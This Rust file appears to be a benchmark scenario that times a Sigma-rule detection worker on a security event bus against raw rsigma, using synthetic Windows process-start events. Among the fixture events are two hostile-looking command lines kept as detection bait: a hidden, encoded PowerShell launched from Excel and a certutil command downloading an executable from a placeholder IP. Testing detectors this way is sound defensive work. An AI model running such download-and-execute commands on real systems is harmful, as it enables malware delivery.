//! `detect.sigma` (memory): N process-start events through the detection
//! worker (a consumer group on the bus, the mapping, rsigma, each finding
//! published back) with every rule of `--rules` loaded, against rsigma
//! evaluating the same events, already mapped, in a loop, in the same run.

use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use chrono::Utc;
use futures::future::BoxFuture;
use secbus::{Event, EventType, Publisher, TenantId};
use secbus_detect::{DetectionConfig, DetectionWorker, Detector, Mapping, RuleSet};
use serde_json::json;

use super::payload;
use super::scenario::{Context, Report, Target, round3, round6};

pub(crate) const NAME: &str = "detect.sigma";

/// How long the worker may take past the last publish before the run fails.
const DRAIN_TIMEOUT: Duration = Duration::from_secs(600);

pub(crate) fn applies(engine: &str) -> bool {
    engine == "memory"
}

pub(crate) fn run(ctx: &Context) -> BoxFuture<'_, anyhow::Result<Report>> {
    Box::pin(measure(ctx))
}

/// Process starts of a Windows fleet: ordinary ones, and one in 25 that rules
/// of the SigmaHQ corpus look for (an encoded PowerShell, a certutil download).
fn process_events(n: usize) -> Vec<Event> {
    let ty = EventType::new("endpoint.process.created").expect("a valid type literal");
    let tenant = TenantId::new(payload::TENANT).expect("a valid tenant literal");
    let ordinary = [
        (
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
            "C:\\Windows\\System32\\svchost.exe",
        ),
        (
            "C:\\Windows\\explorer.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        ),
        (
            "C:\\Windows\\explorer.exe",
            "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\"",
            "C:\\Program Files\\Microsoft VS Code\\Code.exe",
        ),
        (
            "C:\\Windows\\explorer.exe",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        ),
    ];
    let suspicious = [
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ),
        (
            "C:\\Windows\\System32\\cmd.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.50/a.exe a.exe",
            "C:\\Windows\\System32\\certutil.exe",
        ),
    ];
    let time = Utc::now();
    (0..n)
        .map(|i| {
            let (parent, command_line, image) = match i % 50 {
                0 => suspicious[0],
                25 => suspicious[1],
                k => ordinary[k % ordinary.len()],
            };
            Event::builder(ty.clone(), tenant.clone())
                .source("edr/bench")
                .time(time)
                .data(json!({
                    "host": format!("ws-{:04}", i % 500),
                    "os": "windows",
                    "image": image,
                    "command_line": command_line,
                    "parent_image": parent,
                    "user": format!("ACME\\\\user{}", i % 97),
                    "process_id": 1000 + i % 60000,
                    "integrity_level": "medium",
                }))
                .build()
                .expect("a valid bench event")
        })
        .collect()
}

async fn measure(ctx: &Context) -> anyhow::Result<Report> {
    anyhow::ensure!(
        !ctx.rules.is_empty(),
        "detect.sigma needs --rules DIR (e.g. a SigmaHQ checkout)"
    );
    let n = ctx.events;
    let events = process_events(n);
    let rules = RuleSet::load(&ctx.rules).map_err(|e| anyhow::anyhow!("{e}"))?;
    anyhow::ensure!(rules.loaded > 0, "no rule loads from {:?}", ctx.rules);

    // Raw: rsigma on the same events, mapped before timing.
    let mut raw_detector = Detector::new(&rules, Mapping::shipped(), Default::default())
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let mapped: Vec<(serde_json::Value, i64)> = events
        .iter()
        .map(|e| {
            (
                raw_detector.sigma_event(e),
                e.time.map_or(0, |t| t.timestamp()),
            )
        })
        .collect();

    // Ours: the worker on the bus, timed from the first publish to the last
    // event evaluated (publisher and worker run at once, as in production).
    let bus = ctx.connect().await?;
    let detector = Detector::new(&rules, Mapping::shipped(), Default::default())
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let mut config = DetectionConfig::new(ctx.rules.clone(), vec![payload::TENANT.to_owned()]);
    config.replay_on_start = false;
    config.threads = ctx.detection_threads;
    let worker = DetectionWorker::start(&bus, &config, detector)
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let stats = worker.stats();

    // The two run in turns over consecutive slices of the events, in
    // alternating order, so that the drift and preemption of this shared
    // machine hit both alike; each round gives a ratio, the report their
    // median. Events are batched before timing, as raw's are mapped before.
    let rounds = ctx.rounds.clamp(1, n.max(1));
    let per_round = n.div_ceil(rounds);
    let mut batches = super::publish::in_batches(events, per_round).into_iter();
    let (mut raw_wall, mut ours_wall) = (Duration::ZERO, Duration::ZERO);
    let mut ratios = Vec::with_capacity(rounds);
    let mut raw_matches = 0usize;
    let mut evaluated = 0u64;
    for (round, slice) in mapped.chunks(per_round).enumerate() {
        let ours_events = batches.next().unwrap_or_default();
        let ours_batches = super::publish::in_batches(ours_events, 1_000);
        let mut raw_run = |matches: &mut usize| {
            let start = Instant::now();
            for (sigma, at) in slice {
                *matches += raw_detector.process_sigma(sigma, *at).len();
            }
            start.elapsed()
        };
        evaluated += slice.len() as u64;
        let ours_run = async {
            let start = Instant::now();
            for batch in ours_batches {
                bus.publish_batch(batch).await?;
            }
            while stats.events.load(Ordering::Relaxed) < evaluated {
                anyhow::ensure!(
                    start.elapsed() < DRAIN_TIMEOUT,
                    "the worker did not keep up within {DRAIN_TIMEOUT:?}"
                );
                tokio::time::sleep(Duration::from_micros(200)).await;
            }
            Ok(start.elapsed())
        };
        let (raw, ours) = if round % 2 == 0 {
            let raw = raw_run(&mut raw_matches);
            (raw, ours_run.await?)
        } else {
            let ours = ours_run.await?;
            (raw_run(&mut raw_matches), ours)
        };
        raw_wall += raw;
        ours_wall += ours;
        ratios.push(raw.as_secs_f64() / ours.as_secs_f64());
    }
    drop(raw_detector);
    ratios.sort_by(f64::total_cmp);
    let ratio = ratios[ratios.len() / 2];
    let findings = stats.findings.load(Ordering::Relaxed);
    worker.stop().await.map_err(|e| anyhow::anyhow!("{e}"))?;
    bus.close().await?;
    anyhow::ensure!(
        findings as usize == raw_matches,
        "the worker published {findings} findings, rsigma matched {raw_matches} times"
    );

    let mut report = Report::new(
        NAME,
        &ctx.engine,
        n as u64,
        n as f64 / ours_wall.as_secs_f64(),
        Some(n as f64 / raw_wall.as_secs_f64()),
    );
    let overall = report.ratio;
    report.ratio = Some(round3(ratio));
    let report = report
        .field("ratio_overall", overall)
        .field("ratio_min", round3(ratios[0]))
        .field("ratio_max", round3(ratios[ratios.len() - 1]))
        .field("rounds", ratios.len())
        .field("detection_threads", config.detection_threads())
        .field("rules_loaded", rules.loaded)
        .field("rules_failed", rules.failures.len())
        .field("matches", raw_matches)
        .field(
            "event_mix",
            "Windows process starts, 1 in 25 suspicious (encoded PowerShell, certutil download)",
        )
        .field("wall_s", round6(ours_wall.as_secs_f64()))
        .field("raw_wall_s", round6(raw_wall.as_secs_f64()))
        .field(
            "raw_baseline",
            "rsigma over the events already mapped, one thread, as the worker's Detector runs it: \
         Engine::evaluate with every detection rule, then CorrelationEngine::process_with_detections",
        )
        .field(
            "ours_method",
            "publish_batch of 1,000 to the memory bus while the detection worker's group delivers, \
         maps and runs the detection rules on detection_threads threads, runs the correlation \
         rules in order on one (a batch is detected while the one before is correlated), \
         publishes each finding and acks",
        );
    Ok(report.targets([Target::at_least("ratio", 0.9)]))
}
